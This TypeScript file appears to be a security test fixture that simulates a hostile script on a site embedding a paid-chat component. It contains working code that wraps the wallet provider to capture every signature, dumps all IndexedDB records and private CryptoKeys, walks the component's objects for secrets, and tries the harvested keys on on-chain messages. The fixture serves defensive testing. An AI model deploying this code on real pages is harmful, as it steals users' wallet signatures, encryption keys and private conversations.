/**
 * A hostile script on a site that embeds <harmony-paid-chat> — loaded BEFORE the element, as any
 * script the host page includes. Bundled by `test/node/scope-sites.test.ts` and served on site A.
 *
 * It does what such a script can do:
 * - wraps the wallet (`window.ethereum.request`, the same object the wallet announces through
 *   EIP-6963) and keeps every request, every parameter and every signature it sees;
 * - listens to every `harmony-*` event on the document;
 * - on `window.__loot(target)`, takes everything it can reach: every record of every IndexedDB
 *   database of this origin (CryptoKeys included, used as they are), the element's open shadow
 *   root, every object reachable from the element (its controller, the SDK client and what they
 *   hold), the events, and what the SDK answers when asked for keys, backups or other
 *   conversations; then reads the target conversation's envelopes from the chain and tries to open
 *   each with every key it found, as either party.
 *
 * It brings the app's own open-source code (the SDK's envelope and key modules): an attacker can.
 */
import { createPublicClient, decodeEventLog, hexToBytes, http, isHex, type Address, type Hex } from 'viem';
import { createPaidChat } from '../../src/sdk/client.js';
import { openEnvelope, readEnvelopeHeader } from '../../src/sdk/envelope.js';
import { paidChatAbi } from '../../src/sdk/generated/paid-chat.js';
import { MessagingKey, messagingKeyFromSecret } from '../../src/sdk/keys.js';
import { local } from '../../src/sdk/chains.js';

type Req = { method: string; params?: unknown };

const w = window as unknown as Record<string, any>;
const requests: { method: string; params: unknown; result?: unknown }[] = [];
const events: { type: string; detail: string }[] = [];

// ---------------------------------------------------------------- wrap the wallet before anything else

function wrap(provider: { request(a: Req): Promise<unknown> } | undefined): void {
  if (!provider || (provider as any).__wrapped) return;
  const original = provider.request.bind(provider);
  provider.request = async (args: Req) => {
    const entry: { method: string; params: unknown; result?: unknown } = { method: args.method, params: args.params };
    requests.push(entry);
    const result = await original(args);
    entry.result = result; // keeps every signature it ever sees
    return result;
  };
  (provider as any).__wrapped = true;
}
wrap(w.ethereum);
window.addEventListener('eip6963:announceProvider', (e) => wrap((e as CustomEvent).detail?.provider), true);

const stringify = (v: unknown) => JSON.stringify(v, (_k, x) => (typeof x === 'bigint' ? x.toString() : x instanceof Uint8Array ? `bytes:${[...x].join(',')}` : x));
for (const type of ['harmony-connect', 'harmony-message-sent', 'harmony-reply-sent', 'harmony-refund', 'harmony-follow-up-sent', 'harmony-key-change', 'harmony-error']) {
  document.addEventListener(type, (e) => events.push({ type, detail: stringify((e as CustomEvent).detail) }), true);
}

// ---------------------------------------------------------------- taking everything

interface Candidate {
  from: string;
  key: MessagingKey | { agree(peer: Uint8Array): Promise<Uint8Array> };
}

const DUMMY_PUBLIC = new Uint8Array(32).fill(9);

async function idbDump(): Promise<{ records: unknown[]; databases: string[] }> {
  const records: unknown[] = [];
  const dbs = await indexedDB.databases();
  for (const { name } of dbs) {
    if (!name) continue;
    const db = await new Promise<IDBDatabase>((res, rej) => {
      const r = indexedDB.open(name);
      r.onsuccess = () => res(r.result);
      r.onerror = () => rej(r.error);
    });
    for (const store of db.objectStoreNames) {
      const all = await new Promise<unknown[]>((res, rej) => {
        const r = db.transaction(store, 'readonly').objectStore(store).getAll();
        r.onsuccess = () => res(r.result);
        r.onerror = () => rej(r.error);
      });
      records.push(...all);
    }
    db.close();
  }
  return { records, databases: dbs.map((d) => d.name ?? '') };
}

/** Walks every object reachable from `root` (own properties, enumerable or not; Maps; Sets). */
function walk(root: unknown, visit: (v: unknown, path: string) => void, limit = 200_000): number {
  const seen = new Set<unknown>();
  const stack: [unknown, string][] = [[root, 'el']];
  while (stack.length && seen.size < limit) {
    const [v, path] = stack.pop()!;
    if (v === null || (typeof v !== 'object' && typeof v !== 'function') || seen.has(v)) continue;
    if (v instanceof Node && v !== root) continue; // the DOM is read separately
    if (v === window || v === document) continue;
    seen.add(v);
    visit(v, path);
    if (v instanceof Map) for (const [k, x] of v) stack.push([k, `${path}.key`], [x, `${path}.get`]);
    if (v instanceof Set) for (const x of v) stack.push([x, `${path}.item`]);
    let names: (string | symbol)[] = [];
    try {
      names = Reflect.ownKeys(v as object);
    } catch {
      continue;
    }
    for (const n of names) {
      let x: unknown;
      try {
        x = (v as any)[n];
      } catch {
        continue;
      }
      stack.push([x, `${path}.${String(n)}`]);
    }
    // Getters on prototypes (e.g. a controller's derived state).
    const proto = Object.getPrototypeOf(v);
    if (proto && proto !== Object.prototype && proto !== Function.prototype) {
      for (const n of Reflect.ownKeys(proto)) {
        const d = Object.getOwnPropertyDescriptor(proto, n);
        if (d?.get) {
          try {
            stack.push([(v as any)[n], `${path}.${String(n)}`]);
          } catch {
            /* a getter that throws */
          }
        }
      }
    }
  }
  return seen.size;
}

async function candidatesFrom(records: unknown[], el: Element | null): Promise<{ candidates: Candidate[]; counts: Record<string, number> }> {
  const candidates: Candidate[] = [];
  const counts = { cryptoKeys: 0, messagingKeys: 0, secrets: 0, objectsWalked: 0, idbPrivateKeys: 0, reachedController: 0, reachedClient: 0 };
  const addSecret = async (bytes: Uint8Array, from: string) => {
    try {
      candidates.push({ from, key: await messagingKeyFromSecret(bytes.slice(), { extractable: true }) });
      counts.secrets++;
    } catch {
      /* not a key */
    }
  };
  const addCryptoKey = (k: CryptoKey, pub: Uint8Array | undefined, from: string) => {
    if (k.type !== 'private') return;
    counts.cryptoKeys++;
    candidates.push({ from, key: new MessagingKey(k, pub ?? DUMMY_PUBLIC) });
  };
  const visit = async (v: unknown, path: string, pub?: Uint8Array) => {
    if (v instanceof CryptoKey) addCryptoKey(v, pub, path);
    else if (v instanceof Uint8Array && v.length === 32) await addSecret(v, path);
    else if (typeof v === 'string' && isHex(v) && v.length === 66) await addSecret(hexToBytes(v), path);
  };
  for (const r of records as any[]) {
    const pub = typeof r?.publicKey === 'string' && isHex(r.publicKey) && r.publicKey.length === 66 ? hexToBytes(r.publicKey) : undefined;
    if (r?.privateKey) counts.idbPrivateKeys++;
    for (const [k, v] of Object.entries(r ?? {})) await visit(v, `idb.${k}`, pub);
  }
  const found: [unknown, string][] = [];
  counts.objectsWalked = walk(el, (v, path) => found.push([v, path]));
  for (const [v, path] of found) {
    if ((v as any)?.session && (v as any)?.activity && (v as any)?.keys) counts.reachedController++;
    if (typeof (v as any)?.exportBackup === 'function' && (v as any)?.scope) counts.reachedClient++;
    if (typeof (v as any)?.agree === 'function' && 'publicKey' in (v as object)) {
      counts.messagingKeys++;
      candidates.push({ from: path, key: v as Candidate['key'] });
    } else await visit(v, path);
    // Strings and byte arrays held as properties.
    for (const x of Object.values(v as object)) if (typeof x === 'string' || x instanceof Uint8Array) await visit(x, `${path}.*`);
  }
  return { candidates, counts };
}

interface Envelope {
  kind: 1 | 2 | 3 | 4;
  envelope: Hex;
  author: Address;
  reader: Address;
  ref: bigint;
}

/** Every envelope of the conversation visitor ↔ creator, read straight from the chain. */
async function envelopesOf(rpcUrl: string, contract: Address, visitor: Address, creator: Address): Promise<Envelope[]> {
  const client = createPublicClient({ chain: { ...local, rpcUrls: { default: { http: [rpcUrl] } } }, transport: http(rpcUrl) });
  const logs = await client.getLogs({ address: contract, fromBlock: 0n, toBlock: 'latest' });
  const out: Envelope[] = [];
  const same = (a: string, b: string) => a.toLowerCase() === b.toLowerCase();
  for (const l of logs) {
    let d: any;
    try {
      d = decodeEventLog({ abi: paidChatAbi, data: l.data, topics: l.topics });
    } catch {
      continue;
    }
    const a = d.args;
    if (d.eventName === 'MessageSent' && same(a.sender, visitor) && same(a.recipient, creator)) out.push({ kind: 1, envelope: a.envelope, author: visitor, reader: creator, ref: 0n });
    if (d.eventName === 'MessageReplied' && same(a.sender, visitor) && same(a.recipient, creator)) out.push({ kind: 2, envelope: a.envelope, author: creator, reader: visitor, ref: a.id });
    if (d.eventName === 'FollowUpPosted' && ((same(a.author, visitor) && same(a.reader, creator)) || (same(a.author, creator) && same(a.reader, visitor)))) {
      out.push({ kind: same(a.author, visitor) ? 3 : 4, envelope: a.envelope, author: a.author, reader: a.reader, ref: BigInt(a.thread) });
    }
  }
  return out;
}

async function tryOpen(rpcUrl: string, contract: Address, chainId: number, envs: Envelope[], creator: Address, candidates: Candidate[]) {
  const client = createPublicClient({ chain: { ...local, rpcUrls: { default: { http: [rpcUrl] } } }, transport: http(rpcUrl) });
  let tried = 0;
  const opened: string[] = [];
  for (const e of envs) {
    const header = readEnvelopeHeader(e.envelope);
    const creatorKey = hexToBytes(
      (await client.readContract({ address: contract, abi: paidChatAbi, functionName: 'inboxKeyOf', args: [creator, header.keyId] })) as Hex,
    );
    for (const c of candidates) {
      for (const other of [creatorKey, header.conversationKey]) {
        tried++;
        try {
          const { text } = await openEnvelope({ envelope: e.envelope, kind: e.kind as never, myKey: c.key as MessagingKey, otherPublicKey: other, context: { chainId, contract, author: e.author, reader: e.reader, ref: e.ref } });
          opened.push(`${text} (with ${c.from})`);
        } catch {
          /* not this key */
        }
      }
    }
  }
  return { envelopes: envs.length, tried, opened };
}

export interface LootTarget {
  rpcUrl: string;
  chainId: number;
  contract: Address;
  visitor: Address;
  /** The conversation the attacker wants (the visitor with this creator). */
  creator: Address;
  creatorHandle: string;
  /** A conversation the page legitimately holds, as a positive control of the attack. */
  control?: { creator: Address };
  /** A backup file to try to restore here (e.g. the creator's own, as if the user were tricked into choosing it). */
  backupFile?: string;
}

w.__hostile = { requests, events };
w.__loot = async (t: LootTarget) => {
  const el = document.querySelector('harmony-paid-chat');
  const { records, databases } = await idbDump();
  const { candidates, counts } = await candidatesFrom(records, el);
  const shadowText = el?.shadowRoot?.textContent ?? '';
  const shadowHtml = el?.shadowRoot?.innerHTML ?? '';

  // What the SDK gives when asked, through the element's own client and through a fresh one.
  const sdk: Record<string, string> = {};
  const ask = async (name: string, fn: () => Promise<unknown>) => {
    try {
      sdk[name] = `ok ${stringify(await fn())}`.slice(0, 600);
    } catch (e: any) {
      sdk[name] = `error ${e?.code ?? e?.name}: ${e?.message}`.slice(0, 300);
    }
  };
  const chat = (el as any)?._chat?.chat;
  const provider = (el as any)?._chat?.session?.observedProvider ?? w.ethereum;
  if (chat) {
    await ask('element.keyStatus', () => chat.keyStatus());
    await ask('element.exportBackup', () => chat.exportBackup());
    await ask('element.conversationWithTarget', () => chat.conversation({ with: `@${t.creatorHandle}` }));
    await ask('element.inbox', () => chat.inbox());
    await ask('element.rotateInboxKey', () => chat.rotateInboxKey());
    if (t.backupFile) await ask('element.inspectBackup', () => chat.inspectBackup(t.backupFile));
    if (t.backupFile) await ask('element.restoreBackup', () => chat.restoreBackup(t.backupFile, 'any passphrase at all'));
  }
  const own = createPaidChat({ chain: 'local', rpcUrl: t.rpcUrl, contract: t.contract, wallet: provider, scope: { handle: t.creatorHandle, origin: location.origin } });
  await ask('fresh.conversationWithTarget', async () =>
    (await own.conversation({ with: `@${t.creatorHandle}` })).entries.map((e: any) => (e.type === 'message' ? [e.message.readState, e.message.replyReadState] : [e.followUp.readState])),
  );
  await ask('fresh.inbox', async () => (await own.inbox()).items.map((m: any) => m.readState));

  const target = await tryOpen(t.rpcUrl, t.contract, t.chainId, await envelopesOf(t.rpcUrl, t.contract, t.visitor, t.creator), t.creator, candidates);
  const control = t.control ? await tryOpen(t.rpcUrl, t.contract, t.chainId, await envelopesOf(t.rpcUrl, t.contract, t.visitor, t.control.creator), t.control.creator, candidates) : undefined;
  return {
    requests: requests.map((r) => r.method),
    signatures: requests.filter((r) => /sign/i.test(r.method)).map((r) => stringify(r)),
    events: events.map((e) => `${e.type} ${e.detail}`),
    databases,
    idbRecords: records.length,
    counts,
    candidates: candidates.length,
    shadowText,
    shadowHtmlBytes: shadowHtml.length,
    sdk,
    target,
    control,
  };
};
